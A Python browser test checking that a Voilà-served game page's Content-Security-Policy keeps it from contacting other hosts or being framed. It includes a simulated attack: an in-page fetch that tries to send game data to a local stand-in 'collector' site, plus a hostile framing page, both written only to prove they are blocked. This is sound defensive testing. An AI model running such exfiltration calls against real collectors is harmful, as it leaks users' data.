"""The table's page asks nothing of any other address, and cannot be made to.

Voilà's page template links two Font Awesome stylesheets on cdn.jsdelivr.net: without a policy every page load
of the table told that site that a learner opened it (and waited on it on a slow school network, or, offline,
on the name lookup). The server sends a Content-Security-Policy that allows only its own address: the browser
makes no request elsewhere, a script put into the page could not send the learner's game away, and no other
site can frame the table. Tested in Debian's Chromium, with every request the page makes recorded.
"""

from __future__ import annotations

from pathlib import Path
from typing import Any

import browser_support as bs
from test_app_serving import CALLS, ENV, open_table
from test_serve_attacks import hostile_site


def test_the_table_page_asks_only_its_own_server_and_a_script_cannot_send_elsewhere(tmp_path: Path) -> None:
    bs.require_tools()
    data_dir = bs.clean_dir(tmp_path / "data")
    with bs.voila_server(data_dir=data_dir, env=ENV, name="serve-policy", preheat=False, max_tables=2,
                         extra=()) as server, bs.chromium() as browser:
        page = browser.new_context().new_page()
        asked: list[str] = []
        page.on("request", lambda request: asked.append(request.url))
        answers: list[Any] = []
        page.on("response", lambda response: answers.append(response))
        failed: dict[str, str] = {}
        page.on("requestfailed", lambda request: failed.setdefault(request.url, request.failure or ""))
        open_table(page, server.url)
        first = next(answer for answer in answers if answer.url.startswith(server.base) and
                     answer.request.resource_type == "document")
        policy = first.headers.get("content-security-policy", "")
        assert "default-src 'self'" in policy and "frame-ancestors 'self'" in policy, policy
        # the browser stops a request to another address before it leaves (before the policy: the CDN's
        # stylesheets were asked for, and here, offline, failed at the name lookup)
        elsewhere = {url: failed.get(url) for url in asked
                     if not url.startswith(server.base) and not url.startswith("data:")}
        assert set(elsewhere.values()) <= {"csp", "net::ERR_BLOCKED_BY_CSP"}, elsewhere  # blocked, not looked up

        # a script in the page (as an injected one would) cannot reach another address
        with hostile_site("<!doctype html><title>collector</title>") as collector:
            sent = page.evaluate("""url => fetch(url, {mode: 'no-cors'}).then(() => 'sent', () => 'blocked')""",
                                 f"{collector}collect?game=1")
            assert sent == "blocked"
            # and another site cannot put the table in a frame of its own
            with hostile_site(f'<!doctype html><iframe id="t" src="{server.url}"></iframe>') as framing:
                other = browser.new_context().new_page()
                refused: list[str] = []
                other.on("console", lambda message: refused.append(message.text))
                other.goto(framing)
                bs.wait_for(lambda: any("frame-ancestors" in text for text in refused), seconds=60)
                other.close()

        # the page still plays: a call is made and the computer players answer
        before = bs.render_count(page)
        page.locator(CALLS).first.click()
        bs.wait_for(lambda: bs.render_count(page) > before, seconds=bs.WAIT_SECONDS)
        assert "Traceback" not in page.content()
